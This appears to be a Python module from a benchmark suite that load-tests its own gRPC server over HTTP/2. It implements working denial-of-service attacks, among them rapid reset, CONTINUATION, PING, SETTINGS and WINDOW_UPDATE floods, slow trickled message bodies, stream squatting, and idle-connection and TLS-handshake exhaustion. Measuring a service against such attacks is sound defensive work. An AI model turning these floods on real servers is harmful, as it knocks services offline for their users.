"""The attacks: what a client with a certificate, and without any registered key, can do to a transport.

Each is a coroutine that goes on until a moment, as hard as it can; connections that the server ends are opened again.
"""

from __future__ import annotations

import asyncio
import secrets
import ssl
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Coroutine
from contextlib import suppress
from dataclasses import dataclass, field
from typing import Any

from benchmarks.attacks.wire import Connection, Target
from benchmarks.traffic.frames import data_frame, header_block, headers_frame, message
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame

from tallystick.crypto import sign_request

QUERY = "/tallystick.v1.InquiryService/QueryCreditHistory"
SUBMIT = "/tallystick.v1.ReportingService/SubmitReports"
CHECKPOINT = "/tallystick.v1.AuditService/GetCheckpoint"
WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
STREAMS = 128
"""Streams of one connection that the server lets be open at once."""
CANCEL = 0x8
CHUNK = 16_384
MiB = 1024 * 1024
BURST = 200
"""Frames sent in one write."""
CONNECTIONS_A_SECOND = 10.0
"""New connections, beyond those that an attack begins with: what the proxy in front lets through from one address. What floods of
handshakes do without a proxy, `handshakes` shows."""


@dataclass(slots=True)
class Attack:
    """One run of one attack."""

    target: Target
    until: float
    """By time.monotonic()."""
    counts: Counter[str] = field(default_factory=Counter)
    context: ssl.SSLContext = field(init=False)
    _next_connection: float = 0.0

    def __post_init__(self) -> None:
        self.context = self.target.context()

    async def prove(self) -> None:
        """Makes one right call by the same means. Raises RuntimeError when it is not answered: then it proves nothing."""
        counts: Counter[str] = Counter()
        connection = await Connection.start(self.target, self.context, counts)
        number = connection.stream()
        await connection.send(headers_frame(number, self.block(CHECKPOINT)) + data_frame(number, message(0, b""), end=True))
        async with asyncio.timeout(10):
            await connection.below(1)
        connection.close()
        if counts["calls answered"] != 1:
            raise RuntimeError(f"a right call was not answered: {dict(counts)}")

    @property
    def going(self) -> bool:
        """Whether there is time left."""
        return time.monotonic() < self.until

    def block(self, path: str, *more: tuple[str, str]) -> bytes:
        """The headers of a call."""
        return header_block(path, self.target.port, *more)

    async def wait_for(self, end: Coroutine[Any, Any, object]) -> None:
        """Waits for an end, or for that of the attack."""
        with suppress(OSError):
            async with asyncio.timeout(max(self.until - time.monotonic(), 0)):
                await end

    async def wait_to_connect(self) -> None:
        """Waits until a further connection would be let through."""
        now = time.monotonic()
        self._next_connection = max(self._next_connection, now) + 1 / CONNECTIONS_A_SECOND
        await asyncio.sleep(self._next_connection - now)

    async def on(self, connections: int, what: Callable[[Connection], Awaitable[None]], *, reads: bool = True) -> None:
        """Does something on so many connections at once, and again when the server ends one."""

        async def one() -> None:
            while self.going:
                try:
                    connection = await Connection.start(self.target, self.context, self.counts, reads=reads)
                except (OSError, ssl.SSLError):
                    self.counts["connections refused"] += 1
                    await self.wait_to_connect()
                    continue
                try:
                    with suppress(OSError, ssl.SSLError):
                        async with asyncio.timeout(max(self.until - time.monotonic(), 0)):
                            await what(connection)
                finally:
                    connection.close()
                await self.wait_to_connect()

        async with asyncio.TaskGroup() as tasks:
            for _ in range(connections):
                tasks.create_task(one())


async def _squat(attack: Attack, streams: int) -> None:
    blocks = [attack.block(path) for path in (QUERY, CHECKPOINT, SUBMIT)]

    async def squat(connection: Connection) -> None:
        while True:
            await connection.below(streams)
            frames: list[bytes] = []
            while connection.open < streams and len(frames) < BURST:
                number = connection.stream()
                frames.append(headers_frame(number, blocks[number % 3]))
            await connection.send(b"".join(frames))

    await attack.on(26, squat)


async def headers_only(attack: Attack) -> None:
    """26 connections with 1,000 streams each that send headers and nothing else; a stream that ends is begun again."""
    await _squat(attack, 1000)


async def headers_within_limits(attack: Attack) -> None:
    """The same with as many streams as the server allows, so that it has no reason to end a connection."""
    await _squat(attack, STREAMS)


async def _unfinished(attack: Attack, connections: int, streams: int, *, trickle: bool) -> None:
    """Messages of 4 MiB to the last byte but one, as fast as the server's windows let them; or a byte at a time."""
    block, length = attack.block(SUBMIT), 4 * MiB
    body, head = secrets.token_bytes(CHUNK), message(4 * MiB, b"")

    async def fill(connection: Connection) -> None:
        left: dict[int, int] = {}
        sent = 0
        while sent < streams or connection.open > 0:
            while sent < streams and connection.open < STREAMS:
                number = connection.stream()
                left[number] = length - 1
                await connection.send(headers_frame(number, block))
                await connection.send_data(number, head)
                sent += 1
            moved = 0
            for number in [number for number in left if connection.room(number)]:
                size = min(1 if trickle else CHUNK, left[number], connection.room(number))
                if size:
                    await connection.send_data(number, body[:size])
                    left[number] -= size
                    moved += size
                if not left[number]:
                    del left[number]
            attack.counts["bytes of messages"] += moved
            if trickle:
                await asyncio.sleep(0.2)
            elif not moved:
                await connection.changed()

    await attack.on(connections, fill)


async def unfinished_on_one(attack: Attack) -> None:
    """300 messages of 4 MiB on one connection, whose last byte never comes."""
    await _unfinished(attack, 1, 300, trickle=False)


async def unfinished_on_several(attack: Attack) -> None:
    """As many on each of eight connections."""
    await _unfinished(attack, 8, 300, trickle=False)


async def trickled(attack: Attack) -> None:
    """The same, five bytes a second."""
    await _unfinished(attack, 8, 300, trickle=True)


async def rapid_reset(attack: Attack) -> None:
    """Streams begun and reset at once, as fast as the network takes them."""
    block = attack.block(QUERY)

    async def reset(connection: Connection) -> None:
        while True:
            frames: list[bytes] = []
            for _ in range(BURST):
                number = connection.stream()
                connection.forget(number)
                frames += [headers_frame(number, block), RstStreamFrame(number, error_code=CANCEL).serialize()]
            await connection.send(b"".join(frames))

    await attack.on(8, reset)


async def idle_connections(attack: Attack) -> None:
    """5,000 connections that do nothing, TLS and first settings done."""
    lanes = asyncio.Semaphore(16)

    async def one() -> None:
        async with lanes:
            if not attack.going:
                return
            try:
                connection = await Connection.start(attack.target, attack.context, attack.counts)
            except (OSError, ssl.SSLError):
                attack.counts["connections refused"] += 1
                return
        await attack.wait_for(connection.ended())
        connection.close()

    await _each(5000, one)


async def silent_sockets(attack: Attack) -> None:
    """3,000 connections that never begin with TLS."""

    async def one() -> None:
        try:
            reader, writer = await attack.target.connect()
        except OSError:
            attack.counts["connections refused"] += 1
            return
        attack.counts["connections"] += 1
        await attack.wait_for(reader.read())
        attack.counts["connections ended by the server"] += attack.going
        writer.transport.abort()

    await _each(3000, one)


async def _each(count: int, one: Callable[[], Coroutine[Any, Any, None]]) -> None:
    async with asyncio.TaskGroup() as tasks:
        for _ in range(count):
            tasks.create_task(one())


async def handshakes(attack: Attack) -> None:
    """TLS handshakes, one after the other on 16 lanes, past what a proxy would let through."""

    async def lane() -> None:
        while attack.going:
            with suppress(OSError, ssl.SSLError):
                (await Connection.start(attack.target, attack.context, attack.counts)).close()

    async with asyncio.TaskGroup() as tasks:
        for _ in range(16):
            tasks.create_task(lane())


async def _call(attack: Attack, block: bytes, body: bytes) -> None:
    """Whole calls on 16 connections as full as they may be."""

    async def call(connection: Connection) -> None:
        while True:
            await connection.below(STREAMS)
            frames: list[bytes] = []
            while connection.open < STREAMS:
                number = connection.stream()
                frames += [headers_frame(number, block), data_frame(number, body, end=True)]
            await connection.send(b"".join(frames))

    await attack.on(16, call)


async def wrong_signatures(attack: Attack) -> None:
    """Queries under well-formed signatures of a key that nobody has registered."""
    data = secrets.token_bytes(300)
    key = Ed25519PrivateKey.generate()
    signed = sign_request(key, path=QUERY, message=data, audience="exchange.example/log", created=int(time.time())).metadata
    await _call(attack, attack.block(QUERY, *signed), message(len(data), data))


async def public_calls(attack: Attack) -> None:
    """Right calls of what needs no signature."""
    await _call(attack, attack.block(CHECKPOINT), message(0, b""))


async def open_streams(attack: Attack) -> None:
    """Health/Watch and reflection, held open without a question, and begun again when they end."""
    blocks = (attack.block(WATCH), attack.block(REFLECTION))
    whole = message(0, b"")

    async def hold(connection: Connection) -> None:
        while True:
            await connection.below(STREAMS)
            frames: list[bytes] = []
            while connection.open < STREAMS:
                number = connection.stream()
                frames.append(headers_frame(number, blocks[number // 2 % 2]))
                if number // 2 % 2 == 0:
                    frames.append(data_frame(number, whole, end=True))
            await connection.send(b"".join(frames))

    await attack.on(8, hold)


async def _repeat(attack: Attack, frames: bytes, *, reads: bool) -> None:
    async def flood(connection: Connection) -> None:
        while True:
            await connection.send(frames)
            attack.counts["bursts"] += 1

    await attack.on(8, flood, reads=reads)


async def pings(attack: Attack) -> None:
    """PING after PING."""
    await _repeat(attack, PingFrame(0, opaque_data=b"12345678").serialize() * BURST, reads=True)


async def settings(attack: Attack) -> None:
    """SETTINGS that change a value each time, with the acknowledgements left unread."""
    frames = b"".join(SettingsFrame(0, settings={4: 65_535 + n % 2}).serialize() for n in range(BURST))
    await _repeat(attack, frames, reads=False)


async def window_updates(attack: Attack) -> None:
    """WINDOW_UPDATE by one byte, on a stream that is open and on the connection."""
    block = attack.block(QUERY)

    async def flood(connection: Connection) -> None:
        number = connection.stream()
        frames = WindowUpdateFrame(number, window_increment=1).serialize() + WindowUpdateFrame(0, window_increment=1).serialize()
        await connection.send(headers_frame(number, block))
        while True:
            await connection.send(frames * BURST)
            attack.counts["bursts"] += 1

    await attack.on(8, flood)


async def continuations(attack: Attack) -> None:
    """Headers that never end: CONTINUATION after CONTINUATION."""
    block = attack.block(QUERY)
    more = header_block("/", 0, ("x-padding", "a" * 8000))

    async def flood(connection: Connection) -> None:
        number = connection.stream()
        await connection.send(HeadersFrame(number, block, flags=[]).serialize())
        frames = ContinuationFrame(number, more).serialize() * 8
        while True:
            await connection.send(frames)
            attack.counts["bursts"] += 1

    await attack.on(8, flood)


async def large_headers(attack: Attack) -> None:
    """Calls with 15 KB of headers each, as many as fit."""
    block = attack.block(QUERY, *((f"x-{n}", "a" * 500) for n in range(30)))

    async def call(connection: Connection) -> None:
        while True:
            await connection.below(STREAMS)
            frames: list[bytes] = []
            while connection.open < STREAMS and len(frames) < BURST:
                frames.append(headers_frame(connection.stream(), block))
            await connection.send(b"".join(frames))

    await attack.on(8, call)


@dataclass(frozen=True, slots=True)
class Kind:
    """An attack, and whose it is to bound: what gRPC reads and answers by itself, a server can only bound through a proxy."""

    run: Callable[[Attack], Coroutine[Any, Any, None]]
    by_proxy: bool = False


ATTACKS: dict[str, Kind] = {
    "headers only": Kind(headers_only),
    "headers only, 128 a connection": Kind(headers_within_limits),
    "unfinished, one connection": Kind(unfinished_on_one),
    "unfinished, eight": Kind(unfinished_on_several),
    "trickled": Kind(trickled),
    "rapid reset": Kind(rapid_reset),
    "idle connections": Kind(idle_connections),
    "silent sockets": Kind(silent_sockets),
    "handshakes": Kind(handshakes),
    "wrong signatures": Kind(wrong_signatures),
    "public calls": Kind(public_calls),
    "open streams": Kind(open_streams),
    "PING": Kind(pings, by_proxy=True),
    "SETTINGS": Kind(settings),
    "WINDOW_UPDATE": Kind(window_updates, by_proxy=True),
    "CONTINUATION": Kind(continuations),
    "large headers": Kind(large_headers),
}
